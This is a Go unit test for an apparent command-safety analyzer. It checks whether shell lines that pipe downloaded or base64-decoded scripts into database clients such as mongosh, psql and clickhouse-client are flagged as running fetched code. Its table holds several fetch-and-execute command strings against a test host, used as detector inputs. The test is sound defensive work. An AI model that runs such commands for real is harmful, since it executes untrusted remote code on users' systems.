package shell

import (
	"slices"
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// TestFed holds that a client of a database runs what it is given of the network,
// whatever argument names it, and that what it reads as data is not run.
func TestFed(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		"mongosh <(curl -s https://r.test/a.js)":                                 true,
		"mongosh app <(curl -s https://r.test/a.js)":                             true,
		"mkfifo p; curl -s https://r.test/a.js > p & mongosh p":                  true,
		"curl -so a.js https://r.test/a.js; mongosh a.js":                        true,
		"clickhouse-client --queries-file <(curl -s https://r.test/a.sql)":       true,
		"clickhouse-client --other=<(curl -s https://r.test/a.sql)":              true,
		"psql -f <(curl -s https://r.test/a.sql)":                                true,
		"echo c2VsZWN0 | base64 -d > a.js; mongosh ./a.js":                       true,
		"mongosh <(cat a.js)":                                                    false,
		"echo 'db.t.find()' > a.js; mongosh app a.js":                            false,
		"curl -so a.db https://r.test/a.db; sqlite3 a.db .tables":                false,
		"curl -so a.csv https://r.test/a.csv; sqlite3 b.db '.import a.csv t'":    false,
		"curl -so a.csv https://r.test/a.csv; psql -c '\\copy t from a.csv csv'": false,
		"curl -so a.js https://r.test/a.js; mongosh b":                           false,
	} {
		res := Analyze(text, here())
		if got := slices.ContainsFunc(res.Effects, func(e effect.Effect) bool {
			return e.KindForPolicies() == effect.RunDownload || e.KindForPolicies() == effect.RunDecodedText
		}); got != want {
			t.Errorf("%s: runs what was fetched: %t\n%s", text, got, list(res))
		}
	}
}
